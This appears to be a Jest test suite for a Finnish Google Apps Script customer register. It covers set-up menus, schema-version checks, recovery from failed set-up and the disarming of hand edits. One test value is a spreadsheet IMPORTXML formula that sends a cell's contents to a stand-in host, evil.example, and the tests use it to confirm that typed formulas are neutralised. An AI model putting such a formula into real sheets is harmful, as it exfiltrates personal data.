/**
 * A register that leads its owner (issue 11): on a fresh, un-set-up spreadsheet the owner's menu
 * offers set-up first and the sidebar says in one sentence what to do; staff never see an admin
 * item; a register set up by another release (its schema version differs) makes every call tell
 * an admin to run set-up; set-up writes the version last, so a set-up that fails at any call
 * leaves a register that refuses work until a retry completes it; and set-up says which
 * triggers the register has.
 */
import * as path from 'node:path';
import { Emulator } from '../../src/emulator/app';
import { openDemo } from '../../src/demo/seed';
import { OWNER, STAFF } from '../../src/emulator/accounts';
import { NEEDED_TRIGGERS, schemaVersion, schemaVersionOf, SCHEMA_VERSION_KEY } from '../../src/gas/state';
import { REGISTER_TRIGGERS } from '../../src/server/setup';
import { TABS } from '../../src/core/schema';

const dist = path.resolve(__dirname, '../../dist');
const NOW = Date.parse('2026-11-25T08:00:00Z');
/** A fresh spreadsheet with the script pushed and nothing else: no demo data, no set-up. */
const fresh = () => Emulator.open({ distDir: dist, stateFile: null, fresh: true, now: NOW });
const demo = () => openDemo({ distDir: dist, stateFile: null, fresh: true, now: NOW });

const SET_UP = { caption: 'Käyttöönotto / korjaus', functionName: 'menuSetUp' };
const OPEN = { caption: 'Avaa rekisteri', functionName: 'showSidebar' };
const REQUESTS = { caption: 'Pyynnöt', functionName: 'showRequestsDialog' };
const SELECTED = { caption: 'Avaa valittu rivi', functionName: 'showSelectedRow' };
const ADMIN = { caption: 'Ylläpito', functionName: 'showAdminDialog' };

const menuOf = (em: Emulator, user: string) => em.world.uiFor(user).menus.find((m) => m.name === 'Rekisteri')?.items ?? [];
const hasSetUp = (em: Emulator, user: string) => menuOf(em, user).some((i) => i !== null && 'functionName' in i && i.functionName === 'menuSetUp');

function fail(em: Emulator, fn: string, user: string): string {
  const report = em.callFromClient(fn, [], user);
  expect(report.ok).toBe(false);
  return report.error!.message;
}

describe('before set-up', () => {
  test('the owner who opens a fresh spreadsheet finds set-up first in the menu', () => {
    const em = fresh();
    expect(em.openSpreadsheet(OWNER).every((r) => r.ok)).toBe(true);
    expect(menuOf(em, OWNER)).toEqual([SET_UP, null, OPEN]);
  });

  test("the owner's sidebar says in one sentence to run set-up, not to ask an admin", () => {
    const em = fresh();
    em.openSpreadsheet(OWNER);
    expect(em.runMenuItem('showSidebar', OWNER).ok).toBe(true);
    const html = em.world.uiFor(OWNER).sidebar!.html;
    expect(html).toMatch(/data-testid="setup-needed"/);
    expect(html).toContain('Rekisteri › Käyttöönotto / korjaus');
    expect(html).not.toMatch(/ylläpitäjältä|pyydä/i);
    const sentence = /<p[^>]*>([^<]*)<\/p>/.exec(html)![1];
    expect(sentence.split(/[.!?](\s|$)/).filter((s) => s && s.trim()).length).toBe(1);
    expect(menuOf(em, OWNER)[0]).toEqual(SET_UP);
  });

  test('an editor who is not the owner is told that the owner sets it up, and loses the set-up item', () => {
    const em = fresh();
    em.openSpreadsheet(STAFF);
    em.runMenuItem('showSidebar', STAFF);
    const html = em.world.uiFor(STAFF).sidebar!.html;
    expect(html).toMatch(/taulukon omistaja ottaa sen käyttöön/);
    expect(hasSetUp(em, STAFF)).toBe(false);
  });

  test('a server call before set-up refuses, leading the owner to set-up and telling others who sets it up', () => {
    const em = fresh();
    expect(fail(em, 'getSidebarInfo', OWNER)).toBe('Rekisteriä ei ole vielä otettu käyttöön: valitse Rekisteri › Käyttöönotto / korjaus, niin välilehdet, suojaukset ja muokkausten tarkistus luodaan ja sinusta tulee rekisterin ylläpitäjä.');
    expect(fail(em, 'getSidebarInfo', STAFF)).toBe('Rekisteriä ei ole vielä otettu käyttöön: taulukon omistaja ottaa sen käyttöön valitsemalla Rekisteri › Käyttöönotto / korjaus.');
  });
});

describe('set-up from the menu', () => {
  test('the owner runs it: the register, the triggers it installed, what next, and the admin menu', () => {
    const em = fresh();
    em.openSpreadsheet(OWNER);
    expect(em.runMenuItem('menuSetUp', OWNER).ok).toBe(true);
    const alert = em.world.uiFor(OWNER).alerts.at(-1)!.prompt;
    expect(alert).toMatch(/Käyttöönotto valmis/);
    expect(alert).toContain('muokkausten tarkistus ja kirjaus (onRegisterEdit) asennettiin');
    expect(alert).toContain('Rekisteri › Avaa rekisteri');
    expect(menuOf(em, OWNER)).toEqual([OPEN, REQUESTS, SELECTED, null, ADMIN, SET_UP]);
    expect(em.world.properties.document[SCHEMA_VERSION_KEY]).toBe(schemaVersion());
    expect(em.world.triggers.filter((t) => t.handlerFunction === 'onRegisterEdit' && t.eventType === 'ON_EDIT')).toHaveLength(1);
    expect(em.callFromClient('getSidebarInfo', [], OWNER).ok).toBe(true);
  });

  test("set-up's result lists every trigger the register needs, installed now or before", () => {
    const em = fresh();
    const first = em.callFromClient('setUp', [{}], OWNER).result as { triggers: unknown[]; installedTriggers: string[] };
    expect(first.triggers).toEqual([
      { handler: 'onRegisterEdit', event: 'ON_EDIT', installed: true }, { handler: 'runNightly', event: 'CLOCK', installed: true }, { handler: 'onRegisterChange', event: 'ON_CHANGE', installed: true }, { handler: 'pollInbox', event: 'CLOCK', installed: true },
    ]);
    expect(first.installedTriggers).toEqual(['onRegisterEdit', 'runNightly', 'onRegisterChange', 'pollInbox']);
    const again = em.callFromClient('setUp', [{}], OWNER).result as { triggers: unknown[]; installedTriggers: string[] };
    expect(again.triggers).toEqual([
      { handler: 'onRegisterEdit', event: 'ON_EDIT', installed: false }, { handler: 'runNightly', event: 'CLOCK', installed: false }, { handler: 'onRegisterChange', event: 'ON_CHANGE', installed: false }, { handler: 'pollInbox', event: 'CLOCK', installed: false },
    ]);
    expect(again.installedTriggers).toEqual([]);
  });
});

describe('staff never see an admin item', () => {
  test('neither Ylläpito nor set-up: not in the menu onOpen builds, nor after opening the register', () => {
    const em = demo();
    em.openSpreadsheet(STAFF);
    expect(menuOf(em, STAFF)).toEqual([OPEN, REQUESTS, SELECTED]);
    expect(em.runMenuItem('showSidebar', STAFF).ok).toBe(true);
    expect(em.world.uiFor(STAFF).sidebar!.html).not.toMatch(/data-testid="refusal"/);
    expect(menuOf(em, STAFF)).toEqual([OPEN, REQUESTS, SELECTED]);
  });

  test('staff who call showAdminDialog anyway are told which admins to ask, and see no admin data', () => {
    const em = demo();
    em.openSpreadsheet(STAFF);
    expect(em.callFromClient('showAdminDialog', [], STAFF).ok).toBe(true);
    const dialog = em.world.uiFor(STAFF).dialog!;
    expect(dialog.html).toMatch(/data-testid="refusal"/);
    expect(dialog.html).toContain(OWNER);
  });

  test('an admin gets Ylläpito and set-up only when opening the register (onOpen cannot tell an admin)', () => {
    const em = demo();
    em.openSpreadsheet(OWNER);
    expect(menuOf(em, OWNER)).toEqual([OPEN, REQUESTS, SELECTED]);
    em.runMenuItem('showSidebar', OWNER);
    expect(menuOf(em, OWNER)).toEqual([OPEN, REQUESTS, SELECTED, null, ADMIN, SET_UP]);
  });
});

describe('a release that changes the tabs or settings', () => {
  /** The demo register as an earlier release left it: another schema version, or none at all. */
  const older = (version: string | null) => {
    const em = demo();
    if (version === null) delete em.world.properties.document[SCHEMA_VERSION_KEY];
    else em.world.properties.document[SCHEMA_VERSION_KEY] = version;
    return em;
  };

  test.each([['another version', '0.old'], ['no version (set up before versions)', null]])(
    'with %s, the first call of an admin says to run set-up; staff are told to ask an admin',
    (_, version) => {
      const em = older(version);
      expect(fail(em, 'getSidebarInfo', OWNER)).toBe('Rekisterin uusi versio vaatii käyttöönoton: valitse Rekisteri › Käyttöönotto / korjaus ja yritä sitten uudelleen.');
      expect(fail(em, 'searchCustomers', STAFF)).toMatch(/pyydä ylläpitäjää valitsemaan Rekisteri › Käyttöönotto \/ korjaus/);
    },
  );

  test('no write lands on a register of another version', () => {
    const em = older('0.old');
    const before = JSON.stringify(em.world.spreadsheet.snapshot('Rekisteri')!.values);
    const report = em.callFromClient('saveCustomer', [{ customer: { name: 'Uusi Ihminen', email: 'uusi@example.fi' } }], STAFF);
    expect(report.ok).toBe(false);
    expect(JSON.stringify(em.world.spreadsheet.snapshot('Rekisteri')!.values)).toBe(before);
  });

  test("the admin's menu puts set-up first, and set-up brings the register back", () => {
    const em = older('0.old');
    em.runMenuItem('showSidebar', OWNER);
    expect(em.world.uiFor(OWNER).sidebar!.html).toMatch(/Käyttöönotto \/ korjaus/);
    expect(menuOf(em, OWNER)[0]).toEqual(SET_UP);
    expect(em.runMenuItem('menuSetUp', OWNER).ok).toBe(true);
    expect(em.callFromClient('getSidebarInfo', [], OWNER).ok).toBe(true);
    expect(em.callFromClient('searchCustomers', [{ query: 'a' }], STAFF).ok).toBe(true);
  });

  test("the message is in the register's language", () => {
    const em = older('0.old');
    const settings = JSON.parse(em.world.properties.document['rekisteri.settings']);
    em.world.properties.document['rekisteri.settings'] = JSON.stringify({ ...settings, language: 'sv' });
    expect(fail(em, 'getSidebarInfo', OWNER)).toMatch(/^Den nya versionen av registret kräver ibruktagning: välj Registret › Ibruktagning \/ reparation/);
  });
});

describe('a first set-up that fails at any of its calls', () => {
  const calls = fresh().callFromClient('setUp', [{}], OWNER).calls;

  /** Everything set-up makes, besides the version. */
  function complete(em: Emulator): boolean {
    const props = em.world.properties.document;
    const tabs = TABS.every((t) => em.world.spreadsheet.snapshot(t.name.fi) !== null);
    return tabs && !!props['rekisteri.settings'] && !!props['rekisteri.layout'] && !!props['rekisteri.auditHead'] && !!props['rekisteri.editTrigger'];
  }

  test('set-up makes a known number of calls', () => {
    expect(calls).toBeGreaterThan(10);
  });

  test.each(Array.from({ length: calls }, (_, i) => i + 1))('fault at call %i: the version only with everything else; a retry completes', (n) => {
    const em = fresh();
    em.world.injectFault({ atCall: n });
    const failed = em.callFromClient('setUp', [{}], OWNER);
    expect(failed.ok).toBe(false);
    const version = em.world.properties.document[SCHEMA_VERSION_KEY];
    if (version !== undefined) expect(complete(em)).toBe(true);
    // Until the version is there, nobody works on the half-made register.
    if (version === undefined) expect(em.callFromClient('getSidebarInfo', [], OWNER).ok).toBe(false);
    const retry = em.callFromClient('setUp', [{}], OWNER);
    expect(retry.ok).toBe(true);
    expect(complete(em)).toBe(true);
    expect(em.world.properties.document[SCHEMA_VERSION_KEY]).toBe(schemaVersion());
    expect(JSON.parse(em.world.properties.document['rekisteri.settings']).keyPersonnel).toEqual([{ email: OWNER, role: 'admin' }]);
    expect(em.world.triggers.filter((t) => t.handlerFunction === 'onRegisterEdit')).toHaveLength(1);
    expect(em.callFromClient('getSidebarInfo', [], OWNER).ok).toBe(true);
  });

  test('the version is the last thing set-up writes', () => {
    const em = fresh();
    // Every write replaces the document store: record the keys each write adds or changes.
    const order: string[] = [];
    const props = em.world.properties;
    let store = props.document;
    Object.defineProperty(props, 'document', {
      get: () => store,
      set: (next: Record<string, string>) => {
        order.push(...Object.keys(next).filter((k) => next[k] !== store[k]));
        store = next;
      },
      enumerable: true,
      configurable: true,
    });
    expect(em.callFromClient('setUp', [{}], OWNER).ok).toBe(true);
    expect(order.at(-1)).toBe(SCHEMA_VERSION_KEY);
    expect(order.filter((k) => k === SCHEMA_VERSION_KEY)).toHaveLength(1);
  });
});

describe('hand edits while set-up is pending (the stored schema version is another release\'s)', () => {
  const IMPORT = '=IMPORTXML("http://evil.example/?leak="&A2,"//a")';
  /** Each of the register's tabs as the sheet holds it. */
  const tabs = (em: Emulator) => TABS.map((t) => em.world.spreadsheet.snapshot(t.name.fi));
  const formulas = (em: Emulator) => TABS.flatMap((t) => em.world.spreadsheet.snapshot(t.name.fi)!.formulas.flat().filter((f) => f !== ''));
  const column = (em: Emulator, title: string) => (em.world.spreadsheet.snapshot('Rekisteri')!.values[0] as string[]).indexOf(title) + 1;
  /** The same edit on the demo register at this release's version and at '0.old': the tabs end alike. */
  function alike(edit: (em: Emulator) => void): Emulator {
    const current = demo();
    const pending = demo();
    for (const em of [current, pending]) expect(em.callFromClient('exportMarketingList', [{}], STAFF).ok).toBe(true);
    pending.world.properties.document[SCHEMA_VERSION_KEY] = '0.old';
    edit(current);
    edit(pending);
    expect(tabs(pending)).toEqual(tabs(current));
    expect(pending.world.properties.document['rekisteri.auditHead']).toBe(current.world.properties.document['rekisteri.auditHead']);
    return pending;
  }

  test('a formula typed into the register becomes no live formula, as when the version matches', () => {
    const em = alike((e) => e.editCell(STAFF, 'Rekisteri', 2, column(e, 'Sähköposti'), IMPORT));
    expect(formulas(em)).toEqual([]);
  });

  test("a pasted row carrying another customer's number gets its own back, as when the version matches", () => {
    const em = alike((e) => {
      const number = String((e.world.spreadsheet.snapshot('Rekisteri')!.values[2] as unknown[])[column(e, 'Asiakasnumero') - 1]);
      e.pasteCells(STAFF, 'Rekisteri', 2, column(e, 'Asiakasnumero'), [[number]]);
    });
    const numbers = (em.world.spreadsheet.snapshot('Rekisteri')!.values.slice(1) as unknown[][]).map((r) => r[column(em, 'Asiakasnumero') - 1]).filter((v) => v !== '');
    expect(new Set(numbers).size).toBe(numbers.length);
  });

  test('an edit of the audit log is undone and logged, as when the version matches', () => {
    const em = alike((e) => e.editCell(STAFF, 'Lokitiedot', 2, 3, 'muutettu'));
    const log = em.world.spreadsheet.snapshot('Lokitiedot')!.values as unknown[][];
    expect(log[1]).not.toContain('muutettu');
    expect(log.some((r) => r.includes('Muutos taulukossa'))).toBe(true); // the action manual-edit, as its Finnish word
  });

  test('with a layout the check cannot read, the edit is still disarmed: no live formula, a log cell put back', () => {
    const em = demo();
    expect(em.callFromClient('exportMarketingList', [{}], STAFF).ok).toBe(true);
    em.world.properties.document[SCHEMA_VERSION_KEY] = '0.old';
    // The release's register lacks a column this sheet has lost: the check stops on the header.
    expect(em.sheetAction(OWNER, 'Rekisteri', { action: 'deleteColumns', start: column(em, 'Postitoimipaikka'), count: 1 }).ok).toBe(true);
    em.editCell(STAFF, 'Rekisteri', 2, column(em, 'Sähköposti'), IMPORT);
    expect(formulas(em)).toEqual([]);
    expect(em.sheetAction(OWNER, 'Lokitiedot', { action: 'deleteColumns', start: 4, count: 1 }).ok).toBe(true);
    const before = (em.world.spreadsheet.snapshot('Lokitiedot')!.values[1] as unknown[])[2];
    em.editCell(STAFF, 'Lokitiedot', 2, 3, IMPORT);
    expect(formulas(em)).toEqual([]);
    expect((em.world.spreadsheet.snapshot('Lokitiedot')!.values[1] as unknown[])[2]).toBe(before);
  });
});

describe('an owner whose Google locale is English', () => {
  const english = () => {
    const em = fresh();
    em.world.users.find((u) => u.email === OWNER)!.locale = 'en';
    return em;
  };
  const menus = (em: Emulator) => em.world.uiFor(OWNER).menus.map((m) => m.name);

  test("has one menu, in the register's language, before set-up, after opening the sidebar and after set-up", () => {
    const em = english();
    em.openSpreadsheet(OWNER);
    expect(menus(em)).toEqual(['Rekisteri']);
    expect(em.runMenuItem('showSidebar', OWNER).ok).toBe(true);
    expect(menus(em)).toEqual(['Rekisteri']);
    expect(menuOf(em, OWNER)).toEqual([SET_UP, null, OPEN]);
    expect(em.runMenuItem('menuSetUp', OWNER).ok).toBe(true);
    expect(em.runMenuItem('showSidebar', OWNER).ok).toBe(true);
    expect(menus(em)).toEqual(['Rekisteri']);
    expect(menuOf(em, OWNER)).toEqual([OPEN, REQUESTS, SELECTED, null, ADMIN, SET_UP]);
  });

  test('the sentence before set-up is in English and names the menu as it stands', () => {
    const em = english();
    em.openSpreadsheet(OWNER);
    em.runMenuItem('showSidebar', OWNER);
    const html = em.world.uiFor(OWNER).sidebar!.html;
    expect(html).toMatch(/The register is not set up yet/);
    expect(html).toContain('Rekisteri › Käyttöönotto / korjaus');
  });
});

describe('the schema version covers what set-up makes', () => {
  const parts = { settings: 2, protections: 1, tabs: TABS, triggers: NEEDED_TRIGGERS };

  test('it is the version of this release\'s tabs, triggers and revisions', () => {
    expect(schemaVersion()).toBe(schemaVersionOf(parts));
  });

  test('a release that adds a trigger, or changes one\'s event or handler, asks for set-up', () => {
    const base = schemaVersionOf(parts);
    expect(schemaVersionOf({ ...parts, triggers: [...NEEDED_TRIGGERS, { handler: 'onNightly', event: 'ON_EDIT' }] })).not.toBe(base);
    expect(schemaVersionOf({ ...parts, triggers: [{ handler: 'onOtherEdit', event: 'ON_EDIT' }] })).not.toBe(base);
    expect(schemaVersionOf({ ...parts, triggers: [{ handler: 'onRegisterEdit', event: 'ON_CHANGE' as 'ON_EDIT' }] })).not.toBe(base);
    expect(schemaVersionOf({ ...parts, triggers: [] })).not.toBe(base);
  });

  test('so does a new protections or settings revision', () => {
    expect(schemaVersionOf({ ...parts, protections: 2 })).not.toBe(schemaVersionOf(parts));
    expect(schemaVersionOf({ ...parts, settings: 3 })).not.toBe(schemaVersionOf(parts));
  });

  test('set-up installs exactly the triggers the version covers', () => {
    expect(REGISTER_TRIGGERS.map((t) => ({ handler: t.handler, event: t.event }))).toEqual(NEEDED_TRIGGERS);
  });
});
